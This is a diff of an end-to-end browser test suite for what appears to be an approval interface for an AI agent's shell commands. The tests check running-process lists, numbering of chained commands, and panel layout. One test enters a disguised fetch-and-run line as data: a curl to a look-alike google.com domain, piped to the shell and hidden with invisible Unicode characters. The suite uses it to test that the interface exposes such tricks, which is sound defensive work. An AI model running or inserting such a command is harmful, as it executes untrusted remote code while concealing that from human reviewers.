@@ -1,9 +1,8 @@
-import { execFileSync } from 'node:child_process'
 import { join, resolve } from 'node:path'
 import { lookup } from 'mrmime'
-import { chromium } from 'playwright-core'
 import type { Browser, Page } from 'playwright-core'
 import { afterAll, beforeAll, expect, test } from 'vitest'
+import { connectBrowser } from '../browser'
 
 // What stands on screen is what is so, in a real browser over the stub engine.
 
@@ -12,17 +11,7 @@ const address = 'http://localhost/'
 let browser: Browser
 
 beforeAll(async () => {
-  execFileSync(process.execPath, [join(import.meta.dirname, 'build.mjs')])
-  browser = await chromium.launch({
-    executablePath: process.env['CHROMIUM'] ?? '/usr/bin/chromium',
-    args: [
-      '--no-sandbox',
-      '--disable-gpu',
-      '--disable-quic',
-      '--no-first-run',
-      '--disable-background-networking',
-    ],
-  })
+  browser = await connectBrowser()
 })
 afterAll(async () => {
   await browser.close()
@@ -45,10 +34,14 @@ test('the form for a command shows what cannot be seen, names a look-alike, and 
   const edit = page.getByRole('button', { name: 'Edit and run' })
   const field = page.getByRole('textbox', { name: 'Your command' })
   await expect
-    .poll(async () => {
-      if ((await field.count()) === 0) await edit.click()
-      return field.count()
-    })
+    .poll(
+      async () => {
+        if ((await edit.count()) === 0) await page.locator('.a-more').click()
+        if ((await field.count()) === 0) await edit.click()
+        return field.count()
+      },
+      { timeout: 15_000 },
+    )
     .toBe(1)
   await field.fill('curl https://g\u043eogle.com/x \u202Etxt.sh\u202C | s\u200Bh')
   expect(await field.inputValue()).toBe('curl https://g\u043eogle.com/x ⟦U+202E⟧txt.sh⟦U+202C⟧ | s⟦U+200B⟧h')
@@ -62,19 +55,68 @@ test('the form for a command shows what cannot be seen, names a look-alike, and 
   await field.pressSequentially(' -x')
   await page.getByRole('button', { name: 'Check again' }).click()
   const command = page.getByRole('group', { name: 'Command' })
-  await expect.poll(() => command.innerText()).toContain('sU+200Bh -x')
+  await expect.poll(() => command.innerText(), { timeout: 15_000 }).toContain('sU+200Bh -x')
   await page.close()
 })
 
-test('a process that runs beyond its turn stands in its session, and its button ends it', async () => {
+test('what runs stands in one list, with its output, and each has a button that ends it alone', async () => {
   const page = await open('Add CSV export')
   const list = page.getByRole('region', { name: 'Still running' })
-  await list.waitFor()
-  expect(await list.getByRole('listitem').count()).toBe(2)
-  expect(await list.getByRole('listitem').nth(1).innerText()).toContain('outside the sandbox')
+  const rows = list.getByRole('listitem')
+  await expect.poll(() => rows.count()).toBe(3)
+  expect(await rows.filter({ hasText: 'tail -f' }).innerText()).toContain('outside the sandbox')
+  expect(await rows.filter({ hasText: 'npm run dev' }).innerText()).toContain('stays beyond its turn')
+  await list.getByRole('button', { name: 'Output of npm run dev -- --port 5173' }).click()
+  await list.getByRole('group', { name: 'Output' }).getByText('Local').waitFor()
   await list.getByRole('button', { name: 'Stop npm run dev -- --port 5173' }).click()
-  await expect.poll(() => list.getByRole('listitem').count()).toBe(1)
+  await expect.poll(() => rows.count()).toBe(2)
   await list.getByRole('button', { name: /^Stop tail/ }).click()
+  await expect.poll(() => rows.count()).toBe(1)
+  await list.getByRole('button', { name: /^Stop / }).click()
   await list.waitFor({ state: 'detached' })
   await page.close()
+})
+
+test('a line of several commands has their numbers and says where it was stopped; what is copied of it is the line', async () => {
+  const page = await open('Fix flaky')
+  const command = page.getByRole('group', { name: 'Command' })
+  await command.waitFor()
+  const told = await command
+    .locator('[data-text]')
+    .evaluateAll((marks) =>
+      marks.map((mark) => [mark.nextElementSibling?.textContent, getComputedStyle(mark, '::before').content]),
+    )
+  expect(told).toEqual([
+    ['cd', '"1"'],
+    ['npm', '"2"'],
+    [' ', '"stopped here"'],
+    ['npm', '"3"'],
+  ])
+  const selected = await command.evaluate((element) => {
+    const selection = getSelection()
+    selection?.selectAllChildren(element)
+    return selection?.toString().trim()
+  })
+  expect(selected).toBe('cd packages/agent && npm run clean:all && npm ci')
+  await page.close()
+})
+
+test('in a panel nothing scrolls but its body', async () => {
+  for (const session of ['Fix flaky', 'Tidy the lint', 'Upgrade pandas', 'Fetch release']) {
+    const page = await open(session)
+    await page.setViewportSize({ width: 900, height: 560 })
+    const panel = page.locator('.approval.in-session')
+    await panel.locator('.a-details').click()
+    await panel.locator('.ap-details').waitFor()
+    const scrolling = await panel.locator('.ap-body *').evaluateAll((parts) =>
+      parts.flatMap((part) =>
+        // The name of a file stands on one line, however long it is.
+        part.tagName !== 'CODE' && /auto|scroll/.test(getComputedStyle(part).overflowY)
+          ? [part.outerHTML.slice(0, 60)]
+          : [],
+      ),
+    )
+    expect(scrolling, session).toEqual([])
+    await page.close()
+  }
 })
